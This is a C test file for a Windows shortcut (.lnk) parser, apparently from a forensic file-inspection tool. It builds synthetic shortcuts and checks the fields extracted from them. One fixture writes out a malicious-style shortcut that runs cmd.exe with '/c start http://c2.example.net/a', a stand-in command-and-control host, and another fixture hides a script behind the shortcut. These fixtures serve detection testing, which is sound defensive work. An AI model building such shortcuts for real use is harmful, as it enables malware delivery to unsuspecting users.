/* SPDX-License-Identifier: Apache-2.0
 *
 * test_lnk.c - shortcuts: target, command line, the machine that made them; cut and flipped.
 */
#include "collect.h"
#include "sweep.h"

/* One shortcut as Windows writes it, field by field. */
static hm_bytes shortcut(hmi_buf *buf, uint32_t flags, const char *tail)
{
    hmi_buf_init(buf, 0);
    hmi_buf_add(buf, HM_BYTES("\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46"));
    hmi_buf_add_u32(buf, flags);
    hmi_buf_add_u32(buf, 0x20);
    for (unsigned i = 0; i < 3; i++) {
        hmi_buf_add_u64(buf, UINT64_C(130612608000000000)); /* 2014-11-24T00:00:00Z */
    }
    hmi_buf_add_u32(buf, 4711);
    hmi_buf_add_u32(buf, 0);
    hmi_buf_add_u32(buf, 7);
    hmi_buf_add(buf, HM_BYTES("\0\0\0\0\0\0\0\0\0\0\0\0"));
    if (flags & 2) {
        const char path[] = "C:\\Windows\\System32\\cmd.exe";
        hmi_buf_add_u32(buf, 28 + 16 + sizeof(path));
        hmi_buf_add_u32(buf, 28);
        hmi_buf_add_u32(buf, 1);
        hmi_buf_add_u32(buf, 28);
        hmi_buf_add_u32(buf, 28 + 16);
        hmi_buf_add_u32(buf, 0);
        hmi_buf_add_u32(buf, 0);
        hmi_buf_add_u32(buf, 16);
        hmi_buf_add_u32(buf, 3);
        hmi_buf_add_u32(buf, 0xcafe4711);
        hmi_buf_add_u32(buf, 16);
        hmi_buf_add(buf, hmi_bytes(path, sizeof(path)));
    }
    static const char *const TEXTS[] = { "Invoice", "..\\x.exe", "C:\\Temp",
                                         "/c start http://c2.example.net/a", "C:\\i\\word.ico" };
    for (unsigned i = 0; i < 5; i++) {
        if (flags & (4u << i)) {
            size_t len = strlen(TEXTS[i]);
            hmi_buf_add_u16(buf, (uint16_t)len);
            for (size_t k = 0; k < len; k++) {
                hmi_buf_add_u16(buf, (uint8_t)TEXTS[i][k]);
            }
        }
    }
    hmi_buf_add_u32(buf, 0x60);
    hmi_buf_add_u32(buf, 0xa0000003);
    hmi_buf_add_u32(buf, 0x58);
    hmi_buf_add_u32(buf, 0);
    hmi_buf_add(buf, HM_BYTES("desktop-x1\0\0\0\0\0\0"));
    for (unsigned i = 0; i < 2; i++) {
        hmi_buf_add(buf, HM_BYTES("\1\2\3\4\5\6\7\x48\x89\xaa\1\2\3\4\5\6"));
        hmi_buf_add(buf, HM_BYTES("\1\2\3\4\5\6\7\x11\x89\xaa\x00\x50\x56\xc0\x00\x08"));
    }
    hmi_buf_add_u32(buf, 0);
    hmi_buf_add_cstr(buf, tail);
    return hmi_buf_bytes(buf);
}

TEST(what_it_starts_and_where_it_was_made)
{
    collector got;
    hmi_buf buf;
    hm_err err = { 0 };
    hm_bytes file = shortcut(&buf, 0xfe, "");
    collect_init(&got, 64 << 20);
    hmi_reading reading = collect_reading(&got);
    CHECK_OK(hmi_formats_read(&reading, file, &err));
    CHECK_TEXT(collect_fact_of(&got, "format"), "lnk");
    CHECK_TEXT(collect_fact_of(&got, "target"), "C:\\Windows\\System32\\cmd.exe");
    CHECK_TEXT(collect_fact_of(&got, "window"), "minimised");
    CHECK(
        collect_has(&got, HMI_COMMAND_LINE, HMI_ROLE_CONTENT, "/c start http://c2.example.net/a"));
    CHECK(collect_has(&got, HMI_URL, HMI_ROLE_CONTENT, "http://c2.example.net/a"));
    CHECK(collect_has(&got, HMI_DOCUMENT_PROPERTY, HMI_ROLE_CONTENT, "machine=desktop-x1"));
    CHECK(collect_has(&got, HMI_DOCUMENT_PROPERTY, HMI_ROLE_CONTENT, "volume-serial=cafe4711"));
    CHECK(collect_has(&got, HMI_DOCUMENT_PROPERTY, HMI_ROLE_CONTENT,
                      "target-created=2014-11-24T00:00:00Z"));
    CHECK(collect_has(&got, HMI_MAC_ADDRESS, HMI_ROLE_CONTENT, "00:50:56:c0:00:08"));
    CHECK(collect_has(&got, HMI_DOCUMENT_PROPERTY, HMI_ROLE_CONTENT,
                      "file-id=04030201-0605-1107-89aa-005056c00008"));
    CHECK_EQ(got.member_count, 0);
    CHECK_EQ(got.note_count, 0);
    collect_fini(&got);
    hmi_buf_fini(&buf);
}

TEST(what_hangs_behind_it_is_handed_on)
{
    collector got;
    hmi_buf buf;
    hm_err err = { 0 };
    hm_bytes file = shortcut(&buf, 0xa2, "#!/bin/sh\necho hidden payload\n");
    collect_init(&got, 64 << 20);
    hmi_reading reading = collect_reading(&got);
    CHECK_OK(hmi_reader_lnk.read(&reading, file, &err));
    CHECK_EQ(got.member_count, 1);
    CHECK(hmi_starts_with(got.members[0].content, HM_BYTES("#!/bin/sh")));
    CHECK(collect_note_of(&got, HMI_NOTE_ODD, "behind the shortcut") != NULL);
    collect_fini(&got);
    hmi_buf_fini(&buf);
}

TEST(no_shortcut)
{
    collector got;
    hm_err err = { 0 };
    collect_init(&got, 64 << 20);
    hmi_reading reading = collect_reading(&got);
    CHECK_EQ(hmi_reader_lnk.read(&reading, HM_BYTES("MZ"), &err), HM_E_MALFORMED);
    CHECK_EQ(hmi_reader_lnk.detect(HM_BYTES("\x4c\0\0\0"), HM_BYTES("")), 0);
    collect_fini(&got);
}

TEST(cut_anywhere_flipped_anywhere)
{
    hmi_buf buf;
    hm_bytes file = shortcut(&buf, 0xff, "#!/bin/sh\necho hidden payload\n");
    sweep(&hmi_reader_lnk, file, file.len);
    hmi_buf_fini(&buf);
}

RUN_TESTS()
